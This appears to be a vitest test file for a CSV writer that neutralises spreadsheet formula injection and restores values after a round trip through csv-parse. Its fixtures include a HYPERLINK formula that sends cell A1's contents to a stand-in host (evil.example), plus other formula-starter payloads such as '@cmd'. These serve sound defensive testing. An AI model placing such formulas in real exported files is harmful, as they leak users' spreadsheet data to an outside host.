/**
 * The CSV writer's neutralising rule (issue 41 point 2, OWASP "CSV Injection"): each formula
 * starter gets one `'` and quotes, harmless text and the shop's numbers stay as they are, and
 * restoring gives back every value, also after a round trip through csv-parse.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { neutraliseCell, restoreCell, writeCsv } from './safe-csv.ts';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")',
  '+SUM(1,2)',
  '-2+3',
  '@cmd',
  '\tTAB=1+1',
  '\r=1+1',
  "'=already quoted",
  "''",
  "'",
];

const HARMLESS = ['Crescent Elis 2026', '1299,00', '25', '0', '', 'a=b', ' =x', 'Tis=the season'];

describe('neutraliseCell', () => {
  it('puts one single quote before each formula starter and before a single quote', () => {
    expect(HOSTILE.map(neutraliseCell)).toEqual(HOSTILE.map((v) => `'${v}`));
    expect(neutraliseCell("'Tis the season")).toBe("''Tis the season");
  });

  it('leaves other text and the numbers the shop writes as they are', () => {
    expect(HARMLESS.map(neutraliseCell)).toEqual(HARMLESS);
  });
});

describe('restoreCell', () => {
  it('is the inverse of neutraliseCell for every value', () => {
    for (const value of [...HOSTILE, ...HARMLESS]) {
      expect(restoreCell(neutraliseCell(value))).toBe(value);
    }
  });

  it("keeps a leading quote that the rule did not add (a file from elsewhere: 'Tis)", () => {
    expect(restoreCell("'Tis the season")).toBe("'Tis the season");
    expect(restoreCell("'5")).toBe("'5");
    expect(restoreCell("'-5")).toBe('-5');
  });
});

describe('writeCsv', () => {
  it('writes neutralised cells quoted, others quoted only when they must be', () => {
    const csv = writeCsv(
      [
        ['namn', 'pris'],
        ['=HYPERLINK("http://evil.example/?x="&A1,"Klicka")', '1299,00'],
        ['+SUM(1,2)', '0'],
        ['rad\nbrytning', 'a;b'],
      ],
      { delimiter: ';', bom: false },
    );
    expect(csv).toBe(
      'namn;pris\r\n' +
        '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Klicka"")";1299,00\r\n' +
        '"\'+SUM(1,2)";0\r\n' +
        '"rad\nbrytning";"a;b"\r\n',
    );
  });

  it('writes a byte order mark and commas when asked', () => {
    expect(writeCsv([['@cmd', 'a,b']], { delimiter: ',', bom: true })).toBe(
      '\ufeff"\'@cmd","a,b"\r\n',
    );
  });

  it('reads back, cell by cell restored, to the values written', () => {
    const records = [HOSTILE.slice(0, HARMLESS.length), HARMLESS];
    const text = writeCsv(records, { delimiter: ';', bom: true });
    const read = (parse(text, { delimiter: ';', bom: true }) as string[][]).map((r) =>
      r.map(restoreCell),
    );
    expect(read).toEqual(records);
  });
});
